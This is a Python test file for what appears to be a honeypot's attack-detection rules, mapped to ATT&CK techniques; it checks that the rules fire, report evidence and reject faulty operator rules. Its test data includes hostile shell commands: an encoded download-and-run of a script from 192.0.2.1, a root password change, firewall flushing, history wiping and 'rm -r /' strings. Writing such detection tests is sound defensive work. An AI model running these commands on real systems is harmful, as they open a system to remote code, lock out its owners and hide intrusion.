"""The rules: each fires on its examples and not on its counterexamples, and mistakes in an operator's are named."""

import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hermes.analysis import rules_match
from hermes.analysis.rules_model import Example, Rule
from hermes.errors import ConfigError
from hermes.store import StoredEvent

RULES = rules_match.load(None)


def event(name: str, **body: Any) -> StoredEvent:
    return StoredEvent(
        id=1, time=datetime.now(UTC), sensor="s", event=name, connection_id="c", session_id="s", body={**body, "event": name}
    )  # fmt: skip


def fired(example: Example) -> set[str]:
    if example.typed is not None:
        hits = list(RULES.typed(example.typed))
    elif example.executed is not None:
        hits = [
            *RULES.executed(example.executed[0], example.executed),
            *RULES.event(event("process.started", program=example.executed[0])),
        ]
    elif example.event is not None:
        hits = list(RULES.event(event(example.event, **example.fields)))
        if (command := example.fields.get("command")) and example.fields.get("kind") == "exec":
            hits += RULES.typed(str(command))
    else:
        hits = list(RULES.file(example.yara, example.mime))
    return {it.rule.id for it in hits}


@pytest.mark.parametrize("rule", RULES.all.values(), ids=RULES.all)
def test_a_rule_fires_on_its_examples_and_not_on_its_counterexamples(rule: Rule) -> None:
    for example in rule.examples:
        assert rule.id in fired(example), example
        assert example.times >= rule.count
    assert rule.counterexamples
    for example in rule.counterexamples:
        assert rule.id not in fired(example) or example.times < rule.count, example


@pytest.mark.parametrize("rule", RULES.all.values(), ids=RULES.all)
def test_an_example_with_fields_is_a_real_event(rule: Rule) -> None:
    for example in (*rule.examples, *rule.counterexamples):
        if example.event is not None:
            assert event(example.event, **example.fields).fact() is not None, example


def test_techniques_are_in_the_catalogue_and_all_of_that_is_used() -> None:
    assert {it.technique for it in RULES.all.values()} | {"T1078"} == set(rules_match.catalogue())


def test_evidence_is_what_fired() -> None:
    hits = {it.rule.id: it.evidence for it in RULES.typed('uname -a; cd ~ && echo "root:RWkBNMP8e9u6"|chpasswd|bash; history -c')}
    assert hits["system-information"] == "uname -a"
    assert hits["password-changed"] == "root:RWkBNMP8e9u6"
    assert hits["history-cleared"] == "history -c"


def test_wrappers_and_texts_within_texts_are_looked_through() -> None:
    assert "firewall-disabled" in fired(Example(typed="sudo -n nohup iptables -F"))
    assert "history-cleared" in fired(Example(typed="sh -c 'bash -c \"rm -f ~/.bash_history\"'"))
    assert "tool-downloaded" in fired(Example(typed="echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3g7IHNoIHg= | base64 -d | sh"))


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_no_text_is_too_strange(text: str) -> None:
    RULES.typed(text)
    list(RULES.executed(text, [text, text]))


@pytest.mark.parametrize(
    "text",
    [
        "a" * 60_000, "wget " * 10_000, "(" * 20_000, "find " + "-exec openssl enc " * 3000, ";rm -f" * 8000, "/" * 60_000,
        "x" * 100 + "\\x41" * 15_000, "ssh-rsa AAAA" + "A" * 60_000, "mkfifo nc " * 6000, " " * 60_000, "cat " + "/etc/" * 10_000,
        "socket.socket" * 4000, "scp " + "-r " * 20_000, "rm " + "-r / " * 10_000,
    ],
    ids=lambda it: it[:12],
)  # fmt: skip
def test_no_text_holds_the_analysis_up(text: str) -> None:
    began = time.process_time()
    RULES.typed(text)
    list(RULES.executed(text[:8000], text.split(" ")))
    assert time.process_time() - began < 5


def written(tmp_path: Path, text: str) -> Path:
    (tmp_path / "own.yaml").write_text(text)
    return tmp_path


GOOD = """
- id: own-rule
  technique: T1105
  name: Fetched our bait
  any:
    - typed: {name: [wget], arguments: bait}
  examples:
    - {typed: wget http://192.0.2.1/bait}
"""


def test_an_operators_rules_are_added_and_replace_those_of_the_same_id(tmp_path: Path) -> None:
    rules = rules_match.load(written(tmp_path, GOOD + GOOD.replace("own-rule", "planted-key")))
    assert {it.rule.id for it in rules.typed("wget http://192.0.2.1/bait")} >= {"own-rule", "planted-key", "tool-downloaded"}
    assert rules.fingerprint != RULES.fingerprint
    assert rules_match.load(tmp_path).fingerprint == rules.fingerprint
    assert len(rules.all) == len(RULES.all) + 1


@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        (("technique: T1105", "technique: T11"), "own.yaml:2: own-rule: "),
        (("technique: T1105", "technique: T1105\n  tactic: x"), "own.yaml:2: own-rule: Object contains unknown field `tactic`"),
        (("arguments: bait", "arguments: '('"), "own.yaml:2: own-rule: condition 1: '(' is no regular expression"),
        (("arguments: bait", "argument: bait"), "own.yaml:2: own-rule: Object contains unknown field `argument`"),
        (("typed: {name: [wget], arguments: bait}", "typed: {}"), "condition 1: it holds for everything"),
        (("typed: {name: [wget], arguments: bait}", "event: no.event"), "condition 1: there is no event 'no.event'"),
        (
            ("typed: {name: [wget], arguments: bait}", "{event: file.written, where: {name: x}}"),
            "condition 1: file.written has no field 'name'",
        ),
        (("typed: {name: [wget], arguments: bait}", "{text: a, fact: key}"), "condition 1: must have exactly one of text, "),
        (("typed: {name: [wget], arguments: bait}", "fact: nothing"), "condition 1: no fact 'nothing'"),
        (("    - {typed: wget http://192.0.2.1/bait}", "    []"), "own-rule: has no examples"),
        (("- id: own-rule", "- id: [own"), "own.yaml:3: "),
        (("- id: own-rule", "id: own-rule"), "own.yaml:"),
    ],
)
def test_every_mistake_is_named_with_its_file_and_line(change: tuple[str, str], complaint: str, tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        rules_match.load(written(tmp_path, GOOD.replace(*change)))
    assert complaint in str(caught.value)


def test_the_same_id_twice_is_a_mistake(tmp_path: Path) -> None:
    written(tmp_path, GOOD)
    (tmp_path / "zother.yaml").write_text(GOOD)
    with pytest.raises(ConfigError, match=r"zother\.yaml: own-rule is in .*own\.yaml, too"):
        rules_match.load(tmp_path)
    with pytest.raises(ConfigError, match="is no directory"):
        rules_match.load(tmp_path / "none")
